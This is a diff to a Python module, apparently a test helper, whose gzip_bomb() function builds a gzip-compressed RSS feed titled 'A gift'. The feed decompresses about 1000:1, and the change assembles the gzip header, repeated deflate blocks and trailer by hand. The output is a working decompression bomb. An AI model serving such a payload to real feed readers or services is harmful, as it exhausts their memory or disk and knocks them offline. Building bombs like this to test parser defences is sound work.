@@ -5,6 +5,7 @@ A bomb is made once per process and cached: compressing takes a second, keeping 
 
 from __future__ import annotations
 
+import struct
 import sys
 import zlib
 from collections.abc import Iterator, Sequence
@@ -17,6 +18,7 @@ _SPACES = b" " * _BLOCK
 _HEAD = b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>A gift</title><language>en</language>\n'
 _FOOT = b"</channel></rss>\n"
 _GZIP = 16 + zlib.MAX_WBITS
+_GZIP_HEAD = b"\x1f\x8b\x08" + bytes(6) + b"\xff"  # deflate, no time, no name, of no known system
 
 
 def sound_feed(title: str, links: Sequence[str] = ()) -> bytes:
@@ -33,10 +35,14 @@ def sound_feed(title: str, links: Sequence[str] = ()) -> bytes:
 
 @lru_cache(maxsize=1)
 def gzip_bomb() -> bytes:
-    """Expands 1000:1, the most that deflate can do."""
-    press = zlib.compressobj(9, zlib.DEFLATED, _GZIP)
-    parts = [press.compress(block) for block in _swollen()]
-    return b"".join([*parts, press.flush()])
+    """Expands 1000:1, the most that deflate can do. A block is compressed once and repeated."""
+    press = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    head, block = (press.compress(part) + press.flush(zlib.Z_FULL_FLUSH) for part in (_HEAD, _SPACES))  # alone
+    check, size = 0, 0
+    for part in _swollen():
+        check, size = zlib.crc32(part, check), size + len(part)
+    body = (head, block * (FULL_SIZE // _BLOCK), press.compress(_FOOT), press.flush())
+    return b"".join((_GZIP_HEAD, *body, struct.pack("<LL", check, size)))
 
 
 @lru_cache(maxsize=1)
